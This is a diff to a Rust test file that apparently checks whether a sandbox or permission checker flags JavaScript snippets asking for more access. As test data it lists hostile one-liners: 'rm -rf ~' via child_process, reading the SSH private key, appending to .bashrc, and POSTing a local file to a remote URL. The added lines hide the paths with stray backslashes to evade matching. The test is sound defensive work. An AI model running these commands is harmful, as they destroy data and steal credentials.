@@ -145,6 +145,8 @@ fn javascript_that_reaches_further_asks() {
         ("a command by shell", "require('child_process').spawnSync('rm -rf ~', [], {shell: true})"),
         ("a module of pieces", "require('child_' + 'process').execSync('id')"),
         ("a secret by template", "const h = process.env.HOME; console.log(require('fs').readFileSync(`${h}/.ssh/id_rsa`, 'utf8'))"),
+        ("a secret by idle backslashes", r"console.log(require('fs').readFileSync('/home/dev/.\ssh/id_r\sa', 'utf8'))"),
+        ("a start file by idle backslashes", r"require('fs').appendFileSync('/home/dev/.b\ashrc', 'x')"),
         ("a file that is sent", "fetch('https://example.org', {method: 'POST', body: require('fs').readFileSync('notes.txt')})"),
     ], node, true);
 }
